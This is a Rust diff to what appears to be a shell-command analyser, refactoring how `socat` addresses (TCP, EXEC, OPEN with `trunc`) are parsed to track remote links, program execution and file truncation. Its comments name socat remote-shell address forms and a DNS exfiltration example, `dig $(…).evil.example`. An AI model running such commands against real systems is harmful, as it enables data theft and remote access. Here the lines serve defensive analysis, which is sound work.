@@ -94,17 +94,17 @@ const SOCAT_REMOTE: &[&str] = &[
 fn socat(context: &mut CommandContext<'_, '_>) {
     let args = &context.invocation.args;
     let addresses = args.iter().filter(|arg| !arg.text.starts_with('-'));
-    let parts: Vec<(String, Arg)> = addresses.filter_map(address).collect();
-    let is_remote = |kind: &str| SOCAT_REMOTE.iter().any(|start| kind.starts_with(start));
-    let remote = parts.iter().find(|(kind, _)| is_remote(kind));
-    let remote = remote.map(|(_, rest)| rest.text.clone());
-    for (kind, rest) in &parts {
+    let parts: Vec<Address> = addresses.filter_map(address).collect();
+    let is_remote = |part: &&Address| SOCAT_REMOTE.iter().any(|it| part.kind.starts_with(it));
+    let remote = parts.iter().find(is_remote);
+    let remote = remote.map(|part| part.rest.text.clone());
+    for Address { kind, rest, is_cut } in &parts {
         match (SOCAT_PROGRAMS.contains(&kind.as_str()), &remote) {
             (true, Some(remote)) => give(context, remote, rest),
             (true, None) => context.world.script(context.invocation, "socat", rest),
             _ if SOCAT_FILES.contains(&kind.as_str()) => {
                 let target = context.target(rest);
-                match kind == "CREATE" || is_emptied(args, rest) {
+                match kind == "CREATE" || *is_cut {
                     true => context.replace(&target, Flags::NONE, None),
                     false => context.read(rest),
                 }
@@ -117,26 +117,28 @@ fn socat(context: &mut CommandContext<'_, '_>) {
     }
 }
 
-/// `OPEN:file,trunc`
-fn is_emptied(args: &[Arg], file: &Arg) -> bool {
-    let mut of_file = args.iter().filter(|arg| arg.text.contains(&*file.text));
-    of_file.any(|arg| {
-        arg.text
-            .split(',')
-            .skip(1)
-            .any(|option| option.starts_with("trunc"))
-    })
+/// An address of `socat`: `TCP:host:99`, `EXEC:'program words',pty`, `OPEN:file,trunc`.
+struct Address {
+    /// In capitals.
+    kind: String,
+    rest: Arg,
+    /// Whether an option empties what it names.
+    is_cut: bool,
 }
 
-/// Kind and rest of an address: `TCP:host:99`, `EXEC:'program words',pty`.
-fn address(arg: &Arg) -> Option<(String, Arg)> {
+fn address(arg: &Arg) -> Option<Address> {
     let (kind, rest) = arg.text.split_once(':')?;
-    let rest = rest.split(',').next().unwrap_or_default();
+    let (rest, options) = rest.split_once(',').unwrap_or((rest, ""));
+    let is_cut = options.split(',').any(|option| option.starts_with("trunc"));
     let rest = Arg {
         text: rest.trim_matches(['"', '\'']).to_owned(),
         ..arg.clone()
     };
-    Some((kind.to_uppercase(), rest))
+    Some(Address {
+        kind: kind.to_uppercase(),
+        rest,
+        is_cut,
+    })
 }
 
 /// `dig $(…).evil.example`: a name that holds what is not known here, or what this call has read
